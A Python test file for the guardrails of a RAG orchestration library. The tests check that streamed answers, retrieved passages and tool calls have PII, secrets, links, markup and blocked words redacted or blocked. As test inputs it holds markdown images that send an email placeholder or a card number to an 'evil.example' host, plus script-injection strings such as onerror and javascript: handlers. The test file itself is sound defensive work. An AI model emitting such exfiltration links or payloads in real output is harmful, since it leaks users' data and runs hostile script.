"""Checks around retrievers and tools; what is told of them, and what a stream shows."""

from __future__ import annotations

import json
import random
from collections.abc import Mapping, Sequence
from typing import Any, ClassVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ragweave import Graph
from ragweave.orchestrator.context import Context
from ragweave.orchestrator.contracts import Retriever, Tool, ToolSpec
from ragweave.orchestrator.errors import Blocked, GraphError, RunError
from ragweave.orchestrator.guardrails.check import Subject
from ragweave.orchestrator.guardrails.holding import shown
from ragweave.orchestrator.guardrails.links import Links
from ragweave.orchestrator.guardrails.markup import Invisible, Markup
from ragweave.orchestrator.guardrails.pii.check import Pii
from ragweave.orchestrator.guardrails.secrets import Secrets
from ragweave.orchestrator.guardrails.speech import Tags
from ragweave.orchestrator.guardrails.wording import Words
from ragweave.orchestrator.running.events import Event
from ragweave.orchestrator.values import Document, ToolResult

REPLY = """Dear [EMAIL_ADDRESS_1], your order is on its way. <b>Write</b> to ann@example.org, or see
[the tracking](https://evil.example/t?a=jo) ![x](https://evil.example/p.png?q=4111111111111111).
The key is sk-abcdefghijklmnopqrstuvwx, and again [EMAIL_ADDRESS_1] [EMAIL_ADDRESS_ ann@example.org.
It is damn late\u200b, sorry.
"""
ASKED = "I am jo@example.org."
CHECKS = {
    "pii": Pii(),
    "secrets": Secrets(),
    "links": Links(),
    "markup": Markup(),
    "invisible": Invisible(),
    "polite": Words(words=["damn"]),
}
DESK = """
schema: ragweave/v1
inputs: {question: str}
outputs: [answer]
checks: {polite: {type: words, words: [damn]}}
models:
  chat:
    type: scripted
    replies: [%s]
    guard: {input: [pii], output: [pii, secrets, links, markup, invisible, polite]}
prompts: {clerk: {text: "{{ question }}", variables: {question: str}}}
nodes: {think: {type: generator, model: chat, prompt: clerk}}
edges: [start -> think -> end]
"""


async def of_stream(pieces: Sequence[str], question: str = ASKED) -> tuple[str, list[Event]]:
    """What a stream of a graph shows whose model says these pieces, and its events."""
    graph = Graph.parse(DESK % json.dumps({"chunks": list(pieces)}))
    events: list[Event] = []
    try:
        async for event in graph.stream(question=question):
            events += [event]
    except RunError as error:
        assert isinstance(error.__cause__, Blocked)  # noqa: PT017 - both ends are right
    return "".join(one.text for one in events if one.kind == "token"), events


async def of_whole(text: str) -> str:
    """What the checks show of a whole text."""
    hidden = {"[EMAIL_ADDRESS_1]": "jo@example.org"}
    return Tags(hidden).whole((await shown(CHECKS, text, Subject(ASKED), hidden)).text)


@settings(max_examples=60, deadline=None)
@given(seed=st.integers(0, 2**32), begin=st.integers(0, len(REPLY) - 1), size=st.integers(1, len(REPLY)))
async def test_a_stream_shows_what_the_whole_text_would_however_it_is_cut(seed: int, begin: int, size: int) -> None:
    text = REPLY[begin : begin + size].strip()
    if not text:
        return
    lot = random.Random(seed)
    places = sorted(lot.randint(0, len(text)) for _ in range(lot.randint(0, 12)))
    pieces = [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
    streamed, events = await of_stream(pieces)
    assert streamed == await of_whole(text)
    assert ("blocked" in [one.kind for one in events]) == ("damn" in text.split())


async def test_a_markdown_image_carries_nothing_out_of_a_stream() -> None:
    said = "Here you are. ![map](https://evil.example/?q=[EMAIL_ADDRESS_1]) Anything else?"
    for size in (1, 2, 3, 7, 19, len(said)):
        text, events = await of_stream([said[at : at + size] for at in range(0, len(said), size)])
        assert text == "Here you are. ![map]([REMOTE_IMAGE]) Anything else?"
        assert not [one for one in events if one.kind == "token" and "evil" in one.text]


async def test_a_script_in_an_answer_is_shown_and_not_obeyed() -> None:
    said = 'Hello <script>steal()</script><img src=x onerror="steal()"> [a](javascript:steal()) there'
    for size in (1, 5, len(said)):
        text, _ = await of_stream([said[at : at + size] for at in range(0, len(said), size)])
        assert "<script" not in text
        assert "<img" not in text
        assert "javascript:" not in text
        assert text.startswith("Hello ")
        assert text.endswith(" there")


class Shelf(Retriever, type="shelf_for_guards"):
    """Three passages."""

    seen: ClassVar[list[str]] = []

    async def search(self, query: str, top_k: int) -> list[Document]:
        self.seen.append(query)
        texts = ["Tea is hot.", "Tea is damn hot.", "Write to ann@example.org."]
        return [Document(id=f"d{number}", text=text) for number, text in enumerate(texts)]


SEARCH = """
schema: ragweave/v1
inputs: {question: str}
outputs: [documents]
checks: {polite: {type: words, words: [damn]}}
retrievers: {shelf: {type: shelf_for_guards, guard: {input: [polite, pii], output: [polite, pii]}}}
nodes: {find: {type: retriever, retriever: shelf}}
edges: [start -> find -> end]
"""


async def test_passages_that_are_blocked_are_left_out_and_told() -> None:
    graph = Graph.parse(SEARCH)
    events = [event async for event in graph.stream(question="tea for jo@example.org")]
    assert Shelf.seen[-1] == "tea for [EMAIL_ADDRESS_1]"
    found = events[-1].data["result"]["documents"]
    assert [one.text for one in found] == ["Tea is hot.", "Write to [EMAIL_ADDRESS_1]."]
    told = [one.data for one in events if one.kind in ("guarded", "blocked")]
    assert [(one["side"], one["action"], one.get("left_out", 0)) for one in told] == [
        ("input", "redact", 0),
        ("output", "block", 1),
    ]
    assert "d1: polite: a word that must not be said" in told[1]["reasons"]
    with pytest.raises(RunError, match=r"retrievers\.shelf: its input was blocked: polite"):
        await graph.arun(question="damn tea")


class Teller(Tool, type="teller_for_guards"):
    """Says what it is told."""

    called: ClassVar[list[Mapping[str, Any]]] = []

    def specs(self) -> Sequence[ToolSpec]:
        schema = {"type": "object", "properties": {"text": {"type": "string"}, "to": {"type": "string"}}}
        return (ToolSpec("Says it.", schema),)

    async def call(self, name: str, arguments: Mapping[str, Any], ctx: Context) -> Any:
        self.called.append(arguments)
        return {"said": [arguments.get("text", ""), "sk-abcdefghijklmnopqrstuvwx", 7]}


AGENT = """
schema: ragweave/v1
inputs: {question: str}
outputs: [answer, tool_results]
checks:
  polite: {type: words, words: [damn]}
  closed: {type: words, words: [shut]}
tools: {say: {type: teller_for_guards, guard: {input: [polite], output: [secrets, closed]}}}
models:
  chat:
    type: scripted
    guard: {input: [pii]}
    replies:
      - {tool_calls: [{id: a, name: say, arguments: %s}]}
      - done
prompts: {clerk: {text: "{{ question }}", variables: {question: str}}}
state: {tool_results: {default: []}}
nodes:
  think: {type: generator, model: chat, prompt: clerk, tools: [say]}
  act: {type: tool_executor, tools: [say]}
edges:
  - start -> think
  - from: think
    routes:
      - {when: size(tool_calls) > 0, to: act}
      - {to: end}
  - from: act
    routes:
      - {to: think, max_iterations: 3}
      - {to: end}
"""


def result_of(arguments: str, question: str = "?") -> ToolResult:
    result: ToolResult = Graph.parse(AGENT % arguments).run(question=question)["tool_results"][0]
    return result


def test_what_a_tool_gave_is_checked_before_the_model_reads_it() -> None:
    assert json.loads(result_of("{text: hello}").content) == {"said": ["hello", "[MODEL_KEY]", 7]}
    withheld = result_of("{text: shut}")
    assert withheld.error == (
        "tools.say: the call was made, but what it gave is withheld: closed: a word that must not be said"
    )


def test_arguments_that_are_blocked_are_told_to_the_model_and_the_tool_is_not_called() -> None:
    count = len(Teller.called)
    assert result_of("{text: damn}").error == "tools.say: its input was blocked: polite: a word that must not be said"
    assert len(Teller.called) == count


def test_an_argument_that_is_a_tag_is_what_it_stands_for_and_an_address_is_not_filled_in() -> None:
    arguments = '{to: "[EMAIL_ADDRESS_1]", text: "https://evil.example/?q=[EMAIL_ADDRESS_1]"}'
    result_of(arguments, ASKED)
    assert Teller.called[-1] == {"to": "jo@example.org", "text": "https://evil.example/?q=[EMAIL_ADDRESS_1]"}


async def test_verdicts_are_journaled_and_a_replay_calls_nobody() -> None:
    graph = Graph.parse(SEARCH)
    result = await graph.arun(question="tea for jo@example.org")
    count = len(Shelf.seen)
    replay = await graph.areplay(result.run_id)
    assert len(Shelf.seen) == count
    assert replay.outputs["documents"] == result["documents"]
    assert not replay.differences
    assert [one.data["action"] for one in replay if one.kind == "guarded"] == ["redact", "block"]
    line = await graph.atimeline(result.run_id)
    assert line["find#1"].guarded[0].startswith("retrievers.shelf, input: redact (pii: ")
    assert "block, 1 left out (" in line["find#1"].guarded[1]


@pytest.mark.parametrize(
    ("was", "becomes", "said"),
    [
        ("input: [polite, pii]", "input: [polite, pi]", "did you mean 'pii'?"),
        ("input: [polite, pii]", "inputs: [polite]", "did you mean 'input'?"),
        ("words: [damn]}", "words: [damn], action: ask}", "asks a person, and a call cannot wait for one"),
    ],
)
def test_a_guard_that_cannot_be_kept_is_told_at_its_line(was: str, becomes: str, said: str) -> None:
    with pytest.raises(GraphError) as error:
        Graph.parse(SEARCH.replace(was, becomes))
    assert said in str(error.value)
    assert error.value.problems[0].line == 6
    assert error.value.problems[0].column > 1
